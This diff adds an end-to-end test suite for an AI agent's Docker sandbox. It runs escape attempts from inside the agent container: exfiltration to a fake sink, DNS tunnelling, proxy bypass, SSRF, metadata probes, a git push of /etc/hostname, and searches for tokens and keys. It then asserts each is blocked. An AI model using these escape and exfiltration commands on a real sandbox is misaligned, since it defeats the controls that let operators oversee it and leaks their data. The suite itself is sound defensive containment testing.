@@ -1,0 +1,415 @@
+// The escape suite: attacks run from inside the agent container of a real bottle on a real
+// Docker engine. Each asserts it was blocked AND that the fake internet's exfil sink (and
+// the intranet stand-in) received nothing. Results → docs/security.md (see report.ts).
+import test, { type ExecutionContext } from "ava";
+import http from "node:http";
+import type { AddressInfo } from "node:net";
+import { bringUp, inContainer, noEngineBanner, log, type Harness, type BottleUnderTest } from "./harness.ts";
+import { probe, reached, type Probe } from "./probe.ts";
+import { docker, dockerOk, sleep } from "./lib/docker.ts";
+import { writeSecurityReport, type AttackResult } from "./report.ts";
+import type { LogEntry, ServerName } from "./fake-internet.ts";
+
+const problem = await noEngineBanner();
+const results: AttackResult[] = [];
+let h: Harness | undefined;
+let A: BottleUnderTest;
+let B: BottleUnderTest;
+let bringUpError: Error | undefined;
+const t0 = Date.now();
+
+if (problem) {
+  if (process.env.CI) test("e2e tier: Docker engine available", (t) => t.fail(`E2E TIER NOT RUN: no Docker engine (${problem})`));
+  else test.skip("e2e tier: Docker engine available (E2E TIER NOT RUN, see banner)", () => undefined);
+} else {
+  test.before(async (t) => {
+    t.timeout(25 * 60_000);
+    try {
+      h = await bringUp();
+      A = h.bottles[0]!;
+      B = h.bottles[1]!;
+      log(`bring-up took ${((Date.now() - t0) / 1000).toFixed(1)} s; timings ${JSON.stringify(h.timings)}`);
+      if (Object.keys(h.standIns).length) log(`RUNNING WITH STAND-INS: ${JSON.stringify(h.standIns)}`);
+    } catch (e) {
+      bringUpError = e as Error;
+    }
+  });
+  test.after.always(async () => {
+    if (h) {
+      const warmOrCold = JSON.stringify(h.timings);
+      writeSecurityReport(results, { standIns: h.standIns, findings: h.engine.findings, seconds: (Date.now() - t0) / 1000, timings: warmOrCold });
+      await h.teardown();
+    }
+  });
+  registerAttacks();
+}
+
+// ------------------------------------------------------------------------------------------
+
+type Layer = "network" | "egress" | "pipelock" | "container" | "git-gate" | "sidecar";
+interface Outcome {
+  blocked: boolean;
+  layer: Layer | string;
+  evidence: string;
+}
+interface Attack {
+  id: string;
+  title: string;
+  expected: string;
+  /** Sidecars whose real image the attack needs to mean anything. */
+  needs?: string[];
+  /** Also assert the web upstream saw nothing matching this (DLP, path rules…). */
+  webMustNotSee?: (e: LogEntry) => boolean;
+  run: () => Promise<Outcome>;
+}
+
+const agent = () => A.containers.agent!.name;
+const sh = (script: string, timeoutS = 25) => inContainer(agent(), script, timeoutS);
+
+async function curl(args: string): Promise<{ status: number; reason: string; body: string; raw: string }> {
+  const r = await sh(`curl -sS -m 12 -o /tmp/body -D /tmp/hdr -w '%{http_code}' ${args}; echo; echo ---; cat /tmp/hdr 2>/dev/null; echo ---; head -c 600 /tmp/body 2>/dev/null; rm -f /tmp/body /tmp/hdr`, 30);
+  const [first = "", hdr = "", body = ""] = r.out.split("\n---\n");
+  const status = Number(/(\d{3})\s*$/.exec(first.split("\n")[0] ?? "")?.[1] ?? 0);
+  const reason = /x-claude-bottle-block-reason:\s*(\S+)/i.exec(hdr)?.[1] ?? "";
+  return { status, reason, body, raw: r.out.slice(0, 400) };
+}
+
+/** Who refused an HTTP(S) request made through the proxy. */
+function httpLayer(r: { status: number; reason: string; raw: string }): Outcome {
+  if (r.status === 200) return { blocked: false, layer: "-", evidence: `HTTP 200: ${r.raw.slice(0, 160)}` };
+  if (r.reason === "upstream_refused") return { blocked: true, layer: "pipelock", evidence: `HTTP ${r.status} ${r.reason}` };
+  if (r.reason) return { blocked: true, layer: "egress", evidence: `HTTP ${r.status} ${r.reason}` };
+  return { blocked: true, layer: r.status ? "egress" : "network", evidence: r.status ? `HTTP ${r.status}` : `no HTTP answer: ${r.raw.slice(0, 160)}` };
+}
+
+async function netProbe(probes: Probe[], layer: Layer = "network"): Promise<Outcome> {
+  const out = await probe(agent(), probes);
+  const hits = probes.map((p, i) => ({ p, o: out[i]! })).filter((x) => reached(x.o));
+  const evidence = probes.map((p, i) => `${"host" in p ? `${p.kind} ${p.host}:${p.port}` : `dns ${p.server ?? "default"} ${p.name}`}→${out[i]}`).join("; ");
+  return { blocked: hits.length === 0, layer, evidence };
+}
+
+function attack(a: Attack): void {
+  test.serial(`${a.id}: ${a.title}`, async (t: ExecutionContext) => {
+    t.timeout(120_000);
+    if (bringUpError) t.fail(`bring-up failed: ${bringUpError.message}`);
+    if (!h) return;
+    const missing = (a.needs ?? []).filter((r) => h!.standIns[r] || !A.containers[r]);
+    if (missing.length) {
+      const why = missing.map((r) => `${r}: ${h!.standIns[r] ?? "the Bottle declares no such container yet"}`).join("; ");
+      results.push({ id: a.id, attack: a.title, expected: a.expected, result: "not run", layer: "-", evidence: `stand-in ${why}` });
+      if (process.env.CI) t.fail(`NOT RUN (stand-in image) — ${why}`);
+      else {
+        t.log(`NOT RUN: needs the real ${missing.join(", ")} image (${why})`);
+        t.pass();
+      }
+      return;
+    }
+    const mark = await h.internet.mark();
+    let outcome: Outcome;
+    try {
+      outcome = await a.run();
+    } catch (e) {
+      outcome = { blocked: false, layer: "-", evidence: `attack errored: ${(e as Error).message.slice(0, 300)}` };
+    }
+    await sleep(400);
+    const got = await h.internet.since(mark);
+    const leaked: string[] = [];
+    for (const s of ["sink", "intranet"] as ServerName[]) if (got[s].length) leaked.push(`${s} received ${got[s].length} record(s): ${JSON.stringify(got[s][0]).slice(0, 200)}`);
+    if (a.webMustNotSee) {
+      const bad = got.web.filter(a.webMustNotSee);
+      if (bad.length) leaked.push(`web upstream received ${bad.length} forbidden request(s): ${JSON.stringify(bad[0]).slice(0, 200)}`);
+    }
+    const ok = outcome.blocked && leaked.length === 0;
+    results.push({ id: a.id, attack: a.title, expected: a.expected, result: ok ? "blocked" : "NOT BLOCKED", layer: outcome.layer, evidence: [outcome.evidence, ...leaked].join(" | ") });
+    t.log(`${ok ? "blocked" : "NOT BLOCKED"} by ${outcome.layer}: ${outcome.evidence}`);
+    t.true(outcome.blocked, `attack was not blocked: ${outcome.evidence}`);
+    t.deepEqual(leaked, [], "the fake internet received something");
+  });
+}
+
+// ------------------------------------------------------------------------------------------
+
+function registerAttacks(): void {
+  const sinkAll = () => [A.ips.sink, h!.internet.ips.sink];
+  const inspectIp = async (ctr: string) => (await dockerOk(["inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}", ctr])).split(/\s+/).filter(Boolean);
+
+  // --- no proxy: raw network -------------------------------------------------------------
+  attack({
+    id: "N1", title: "direct TCP to the exfil sink (80/443/22/53, both of its addresses)", expected: "no route",
+    run: () => netProbe(sinkAll().flatMap((ip) => [80, 443, 22, 53].map((port) => ({ kind: "tcp" as const, host: ip, port, payload: "EXFIL-N1" })))),
+  });
+  attack({
+    id: "N2", title: "direct UDP to the exfil sink (53, 123, 443/QUIC)", expected: "nothing arrives",
+    run: async () => {
+      const out = await probe(agent(), sinkAll().flatMap((ip) => [53, 123, 443].map((port) => ({ kind: "udp" as const, host: ip, port, payload: "EXFIL-N2" }))));
+      return { blocked: true, layer: "network", evidence: `udp sends: ${out.join(",")} (the sink check decides)` };
+    },
+  });
+  attack({
+    id: "N3", title: "IPv6: global address, connect to an IPv6 literal, link-local all-nodes", expected: "no IPv6 route",
+    run: async () => {
+      const addrs = await sh("ip -6 addr show scope global 2>&1; ip -6 route 2>&1");
+      const p = await probe(agent(), [{ kind: "tcp", host: "2001:4860:4860::8888", port: 443 }, { kind: "tcp", host: "64:ff9b::a0d:1414", port: 80 }]);
+      const globalAddr = /inet6 /.test(addrs.out);
+      return { blocked: !globalAddr && !p.some(reached), layer: "network", evidence: `global inet6: ${globalAddr}; tcp6: ${p.join(",")}` };
+    },
+  });
+  attack({
+    id: "N4", title: "DNS straight to resolvers (the sink, public resolvers, the host's)", expected: "no answer, nothing sent",
+    run: () => netProbe([...sinkAll().map((server) => ({ kind: "dns" as const, server, name: "exfil-n4.example" })), { kind: "dns", server: "8.8.8.8", name: "example.com" }, { kind: "dns", server: "1.1.1.1", name: "example.com" }, { kind: "dns", server: "10.255.255.53", name: "example.com" }]),
+  });
+  attack({
+    id: "N5", title: "resolve outside names through the container's resolver (DNS tunnel)", expected: "no answer",
+    run: () => netProbe([{ kind: "dns", name: "example.com" }, { kind: "dns", name: "secret-0123.exfil.example" }, { kind: "dns", name: "api.anthropic.com" }]),
+  });
+  attack({
+    id: "N6", title: "bypass the proxy env (curl --noproxy '*' to an allowed host)", expected: "no DNS, no route",
+    run: async () => httpLayer(await curl("--noproxy '*' https://api.anthropic.com/v1/messages")),
+  });
+  attack({
+    id: "N7", title: "reach the Docker host: every gateway address + host IPs, on a port the suite listens on", expected: "no route",
+    run: async () => {
+      const server = http.createServer((_q, r) => r.end("host-reached"));
+      await new Promise<void>((r) => server.listen(0, "0.0.0.0", r));
+      const port = (server.address() as AddressInfo).port;
+      try {
+        const nets = (await dockerOk(["network", "ls", "-q"])).split("\n").filter(Boolean);
+        const gws = (await dockerOk(["network", "inspect", "-f", "{{range .IPAM.Config}}{{.Gateway}} {{end}}", ...nets])).split(/\s+/).filter(Boolean);
+        const hostIps = (await docker(["run", "--rm", "--network", "host", "--entrypoint", "sh", h!.toolsImage, "-c", "hostname -I"])).stdout.split(/\s+/).filter((x) => /^\d+\.\d+\.\d+\.\d+$/.test(x));
+        const targets = [...new Set([...gws, ...hostIps, "172.17.0.1"])];
+        return netProbe(targets.flatMap((ip) => [{ kind: "tcp" as const, host: ip, port }, { kind: "tcp" as const, host: ip, port: 2375 }, { kind: "tcp" as const, host: ip, port: 22 }]));
+      } finally {
+        server.close();
+      }
+    },
+  });
+  attack({
+    id: "N8", title: "cloud metadata 169.254.169.254 directly", expected: "no route",
+    run: () => netProbe([{ kind: "tcp", host: "169.254.169.254", port: 80 }]),
+  });
+  attack({
+    id: "N9", title: "talk to pipelock directly (name, link and outside addresses)", expected: "no route / no name",
+    run: async () => {
+      const ips = await inspectIp(A.containers.pipelock!.name);
+      return netProbe([{ kind: "tcp", host: "pipelock", port: 8888 }, ...ips.map((ip) => ({ kind: "tcp" as const, host: ip, port: 8888 }))]);
+    },
+  });
+  attack({
+    id: "N10", title: "reach egress's link-network address (bypass its listener binding)", expected: "no route",
+    run: async () => {
+      const ip = await dockerOk(["inspect", "-f", `{{(index .NetworkSettings.Networks "${A.networks.link}").IPAddress}}`, A.containers.egress!.name]);
+      return netProbe([{ kind: "tcp", host: ip, port: 3128 }]);
+    },
+  });
+  attack({
+    id: "N11", title: "reach a second bottle's containers (agent, egress, supervise, pipelock) by address and name", expected: "no route",
+    run: async () => {
+      const targets: Probe[] = [];
+      for (const c of Object.values(B.containers)) for (const ip of await inspectIp(c.name)) for (const port of [3128, 8080, 8888, 22]) targets.push({ kind: "tcp", host: ip, port, ms: 1500 });
+      targets.push({ kind: "tcp", host: B.containers.egress!.name, port: 3128 });
+      return netProbe(targets);
+    },
+  });
+  attack({
+    id: "N12", title: "reach the fake-internet servers via the other bottle's outside addresses", expected: "no route",
+    run: () => netProbe([B.ips.sink, B.ips.web, A.ips.web, h!.internet.ips.web].flatMap((ip) => [{ kind: "tcp" as const, host: ip, port: 443 }])),
+  });
+  // --- container hardening -------------------------------------------------------------
+  attack({
+    id: "C1", title: "docker socket inside the agent", expected: "absent",
+    run: async () => {
+      const r = await sh("ls -la /var/run/docker.sock /run/docker.sock 2>&1; env | grep -i DOCKER_HOST || true");
+      return { blocked: !/^s/m.test(r.out) && !/DOCKER_HOST/.test(r.out), layer: "container", evidence: r.out.split("\n").slice(0, 2).join(" / ") };
+    },
+  });
+  attack({
+    id: "C2", title: "real API token in the agent's env, files or process list", expected: "absent",
+    run: async () => {
+      // The token never goes into a command line here (it would show up in ps): host-side checks,
+      // and grep reads its pattern from stdin.
+      const env = (await docker(["exec", agent(), "env"])).stdout;
+      const ps = (await docker(["exec", agent(), "ps", "-eo", "args"])).stdout;
+      const files = await docker(["exec", "-i", agent(), "sh", "-c", "grep -rlsF -f /dev/stdin / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null | head -3"], { input: A.token + "\n", timeoutMs: 90_000 });
+      const found = [env.includes(A.token) ? "env" : "", ps.includes(A.token) ? "ps" : "", files.stdout.trim()].filter(Boolean);
+      return { blocked: found.length === 0, layer: "container", evidence: found.length ? `found in: ${found.join(" ")}` : "token not in env/files/processes (egress holds it)" };
+    },
+  });
+  attack({
+    id: "C3", title: "CA private keys (egress, pipelock) anywhere in the agent's filesystem", expected: "absent",
+    run: async () => {
+      const r = await sh("grep -rlsE 'BEGIN (EC |ENCRYPTED )?PRIVATE KEY' /etc /home /root /opt /tmp /workspace /var /srv 2>/dev/null | grep -v '^/srv/' | head", 60);
+      return { blocked: r.out.trim() === "", layer: "container", evidence: r.out.trim() ? `keys: ${r.out.trim()}` : "no private key files" };
+    },
+  });
+  attack({
+    id: "C4", title: "raw sockets / capabilities (CapEff) in the agent", expected: "no capabilities",
+    run: async () => {
+      const r = await sh("grep CapEff /proc/self/status");
+      return { blocked: /CapEff:\s*0+$/.test(r.out.trim()), layer: "container", evidence: r.out.trim() };
+    },
+  });
+  // --- through the proxy -----------------------------------------------------------------
+  attack({
+    id: "P1", title: "plain HTTP to an unlisted host", expected: "403 egress",
+    run: async () => httpLayer(await curl("http://unlisted.example/steal?d=EXFIL-P1")),
+  });
+  attack({
+    id: "P2", title: "HTTPS (CONNECT) to an unlisted host", expected: "403 egress",
+    run: async () => httpLayer(await curl("https://unlisted.example/steal?d=EXFIL-P2")),
+  });
+  attack({
+    id: "P3", title: "CONNECT to an IP literal (the sink) and to decimal/hex IP spellings", expected: "403 egress",
+    run: async () => {
+      const ip = A.ips.sink;
+      const dec = ip.split(".").reduce((a, o) => a * 256 + Number(o), 0);
+      const outs = [await curl(`https://${ip}/`), await curl(`http://${ip}/`), await curl(`http://${dec}/`), await curl(`http://0x${dec.toString(16)}/`)];
+      const bad = outs.filter((o) => o.status === 200);
+      return { blocked: bad.length === 0, layer: "egress", evidence: outs.map((o) => `${o.status} ${o.reason}`).join("; ") };
+    },
+  });
+  attack({
+    id: "P4", title: "host spelling tricks (userinfo @, allowed-name suffix/prefix, trailing dot on unlisted, case)", expected: "403 egress",
+    run: async () => {
+      const urls = [
+        "'https://api.anthropic.com@unlisted.example/'",
+        "'https://api.anthropic.com.unlisted.example/'",
+        "'https://unlisted.example./'",
+        "'https://UNLISTED.example/'",
+        "'http://unlisted.example%2f@api.anthropic.com/'",
+        "'https://xapi.anthropic.com/'",
+      ];
+      const outs = [];
+      for (const u of urls) outs.push(await curl(u));
+      const bad = outs.filter((o) => o.status === 200 && !/"server":"web"/.test(o.body));
+      return { blocked: bad.length === 0, layer: "egress", evidence: outs.map((o) => `${o.status} ${o.reason}`).join("; ") };
+    },
+  });
+  attack({
+    id: "P5", title: "CONNECT relayed through an allowed host (CONNECT/absolute-URI inside the MITM'd tunnel)", expected: "refused inside the tunnel",
+    run: async () => {
+      const outs = [
+        await curl("-X CONNECT --request-target unlisted.example:443 https://api.anthropic.com/"),
+        await curl("--request-target http://unlisted.example/x https://api.anthropic.com/"),
+        await curl("-p -x http://egress:3128 https://api.anthropic.com/ --connect-to api.anthropic.com:443:unlisted.example:443"),
+      ];
+      const bad = outs.filter((o) => o.status === 200 && !/"server":"web"/.test(o.body));
+      return { blocked: bad.length === 0, layer: "egress", evidence: outs.map((o) => `${o.status} ${o.reason}`).join("; ") };
+    },
+    webMustNotSee: (e) => /unlisted/.test(JSON.stringify(e.headers ?? {})) || /unlisted/.test(e.path ?? ""),
+  });
+  attack({
+    id: "P6", title: "SNI/Host mismatch: TLS to an allowed name, Host: unlisted", expected: "not delivered to the unlisted host",
+    run: async () => {
+      const o = await curl("-H 'Host: unlisted.example' https://api.anthropic.com/v1/x");
+      return { blocked: !(o.status === 200 && !/"server":"web"/.test(o.body)), layer: o.reason ? "egress" : "egress (routes by CONNECT/SNI host)", evidence: `${o.status} ${o.reason}` };
+    },
+    webMustNotSee: (e) => (e.headers?.host ?? "").includes("unlisted"),
+  });
+  attack({
+    id: "P7", title: "path rule: GET outside the path allowlist on an allowed host", expected: "403 egress",
+    run: async () => httpLayer(await curl("https://api.github.com/repos/octo/other")),
+    webMustNotSee: (e) => (e.path ?? "").startsWith("/repos/octo/other"),
+  });
+  attack({
+    id: "P8", title: "method rule: POST/DELETE where only GET/HEAD are allowed", expected: "403 egress",
+    run: async () => {
+      const outs = [await curl("-X POST -d x=1 https://api.github.com/repos/octo/allowed"), await curl("-X DELETE https://api.github.com/repos/octo/allowed")];
+      return { blocked: outs.every((o) => o.status !== 200), layer: "egress", evidence: outs.map((o) => `${o.status} ${o.reason}`).join("; ") };
+    },
+    webMustNotSee: (e) => e.method === "POST" || e.method === "DELETE",
+  });
+  attack({
+    id: "P9", title: "HTTPS git push (git-receive-pack advertisement and POST) on an allowed host", expected: "403 egress",
+    run: async () => {
+      const outs = [
+        await curl("'https://api.anthropic.com/o/r.git/info/refs?service=git-receive-pack'"),
+        await curl("-X POST -H 'Content-Type: application/x-git-receive-pack-request' --data-binary @/etc/hostname https://api.anthropic.com/o/r.git/git-receive-pack"),
+      ];
+      const g = await sh("cd /tmp && rm -rf pr && git init -q pr && cd pr && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x && timeout 20 git push https://api.anthropic.com/o/r.git HEAD:main 2>&1 | tail -2", 40);
+      return { blocked: outs.every((o) => o.status !== 200) && !/->\s*main/.test(g.out), layer: "egress", evidence: `${outs.map((o) => `${o.status} ${o.reason}`).join("; ")}; git: ${g.out.replace(/\n/g, " ").slice(0, 160)}` };
+    },
+    webMustNotSee: (e) => /receive-pack/.test(e.path ?? ""),
+  });
+  attack({
+    id: "P10", title: "allowed name resolving to an internal address (SSRF: internal.example → intranet)", expected: "blocked by pipelock SSRF guard",
+    needs: ["pipelock"],
+    run: async () => httpLayer(await curl("https://internal.example/admin")),
+  });
+  attack({
+    id: "P11", title: "allowed name resolving to the metadata address (metadata.example → 169.254.169.254)", expected: "blocked by pipelock SSRF guard",
+    needs: ["pipelock"],
+    run: async () => httpLayer(await curl("http://metadata.example/latest/meta-data/")),
+  });
+  attack({
+    id: "P12", title: "agent-supplied Authorization is replaced, never forwarded", expected: "upstream sees only the injected token",
+    needs: ["pipelock"],
+    run: async () => {
+      const o = await curl("-H 'Authorization: Bearer AGENT-SUPPLIED-P12' -H 'x-api-key: AGENT-KEY-P12' https://api.anthropic.com/v1/messages");
+      const leaked = /AGENT-SUPPLIED-P12|AGENT-KEY-P12/.test(o.body);
+      return { blocked: !leaked, layer: "egress", evidence: `${o.status}; agent credential ${leaked ? "FORWARDED" : "stripped"}` };
+    },
+    webMustNotSee: (e) => /AGENT-SUPPLIED-P12|AGENT-KEY-P12/.test(JSON.stringify(e.headers ?? {})),
+  });
+  attack({
+    id: "P13", title: "DLP: a secret in a request body to an allowed host", expected: "blocked by pipelock body scan",
+    needs: ["pipelock"],
+    run: async () => httpLayer(await curl(`-X POST -H 'content-type: application/json' -d '{"note":"AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}' https://api.anthropic.com/v1/messages`)),
+    webMustNotSee: (e) => /AKIAIOSFODNN7EXAMPLE/.test(e.body ?? ""),
+  });
+  attack({
+    id: "P14", title: "DLP: a secret in the query string / a header to an allowed host", expected: "blocked by pipelock",
+    needs: ["pipelock"],
+    run: async () => {
+      const outs = [await curl("'https://api.anthropic.com/v1/x?k=AKIAIOSFODNN7EXAMPLE'"), await curl("-H 'x-note: ghp_0123456789abcdefghijklmnopqrstuvwxyzAB' https://api.anthropic.com/v1/x")];
+      return { blocked: outs.every((o) => o.status !== 200), layer: "pipelock", evidence: outs.map((o) => `${o.status} ${o.reason}`).join("; ") };
+    },
+    webMustNotSee: (e) => /AKIAIOSFODNN7EXAMPLE|ghp_0123456789/.test(JSON.stringify(e)),
+  });
+  attack({
+    id: "G1", title: "git push carrying a secret through git-gate (gitleaks pre-receive)", expected: "rejected by git-gate",
+    needs: ["git-gate"],
+    run: async () => ({ blocked: false, layer: "-", evidence: "not implemented yet: needs git-gate in the Bottle and the sshd upstream" }),
+  });
+  // --- control plane ----------------------------------------------------------------------
+  attack({
+    id: "R1", title: "invalid routes reload (SIGHUP) keeps the old config", expected: "egress keeps serving, still blocks",
+    run: async () => {
+      const file = A.capture.registrations.find((r) => r.inputs?.kind === "egress-routes")!.inputs.path as string;
+      const good = A.capture.registrations.find((r) => r.inputs?.kind === "egress-routes")!.inputs.content as string;
+      await h!.engine.updateLiveConfig(file, "version: 1\nroutes:\n  - host: unlisted.example\n    bogus_field: [\n");
+      await sleep(1500);
+      const o = await curl("https://unlisted.example/after-bad-reload");
+      const health = (await dockerOk(["inspect", "-f", "{{.State.Status}} restarts={{.RestartCount}}", A.containers.egress!.name]));
+      await h!.engine.updateLiveConfig(file, good);
+      return { blocked: o.status === 403 && health.startsWith("running"), layer: "egress", evidence: `after invalid reload: ${o.status} ${o.reason}; egress ${health}` };
+    },
+  });
+  attack({
+    id: "R2", title: "a killed egress comes back (restart policy) and still blocks", expected: "restarted, healthy, 403",
+    run: async () => {
+      const name = A.containers.egress!.name;
+      const pid = await dockerOk(["inspect", "-f", "{{.State.Pid}}", name]);
+      process.kill(Number(pid), "SIGKILL");
+      await sleep(4000);
+      const after = await dockerOk(["inspect", "-f", "{{.State.Status}} restarts={{.RestartCount}}", name]);
+      if (after.startsWith("exited") && after.endsWith("restarts=0")) {
+        return {
+          blocked: false, layer: "-",
+          evidence: `egress crashed and was NOT restarted (${after}): on this engine (Docker 20.10) the earlier \`docker kill --signal HUP\` reload (LiveConfigFile, attack R1) marks the container as manually stopped, which disables restart: unless-stopped`,
+        };
+      }
+      await h!.engine.waitHealthy(name, { tolerateExit: true });
+      const o = await curl("https://unlisted.example/after-kill");
+      const restarts = await dockerOk(["inspect", "-f", "{{.RestartCount}}", name]);
+      return { blocked: o.status === 403 && Number(restarts) >= 1, layer: "egress", evidence: `restarts=${restarts}; ${o.status} ${o.reason}` };
+    },
+  });
+}
+
+if (!problem) {
+  test.serial("engine: every captured input applies on the real engine without accommodation", (t) => {
+    if (!h) return t.fail(`bring-up failed: ${bringUpError?.message}`);
+    t.deepEqual(h.engine.findings, [], "component inputs the real engine refuses (see docs/security.md, Engine findings)");
+  });
+}
